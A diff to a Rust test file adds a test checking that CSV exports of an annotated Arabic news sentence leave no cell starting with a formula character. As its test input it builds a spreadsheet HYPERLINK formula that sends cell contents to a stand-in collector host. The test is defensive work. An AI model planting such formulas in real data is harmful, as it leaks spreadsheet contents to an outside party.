@@ -97,6 +97,29 @@ fn no_cell_is_a_formula() {
     assert_eq!((extra["Words"].as_str(), extra["Result of the lesson"].as_str()), ("'=SUM(A1)", "extra (Vague, general)"));
 }
 
+/// Every column that holds words of the article or of its page, with each opening that a spreadsheet takes for a formula.
+#[test]
+fn no_opening_of_a_formula_survives_in_any_column() {
+    for opening in ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠"] {
+        let formula = format!("{opening}HYPERLINK(\"https://collector.example/?q=\"&A1)");
+        let details = Details { title: Some(formula.clone()), address: Some(formula.clone()), date: Some(formula.clone()), lesson: None };
+        for line in [
+            format!("{formula} قال وزير المالية سامر الحلبي إن المنحة بلغت 3 ملايين دينار."),
+            format!("قال {formula} إن المنحة بلغت 3 ملايين دينار، وفق ما نقلت {formula}."),
+        ] {
+            let article = Annotated::read(&line, OffsetUnit::Utf16);
+            assert!(!article.analysis().claims.is_empty(), "{line}");
+            for locale in [Locale::ARABIC, Locale::ENGLISH] {
+                for row in rows(&text(&article, &details, Format::Csv, locale)) {
+                    for (column, cell) in row {
+                        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']), "{column}: {cell}");
+                    }
+                }
+            }
+        }
+    }
+}
+
 #[test]
 fn json_has_the_article_and_an_analysis_that_fits_it() {
     let article = article();
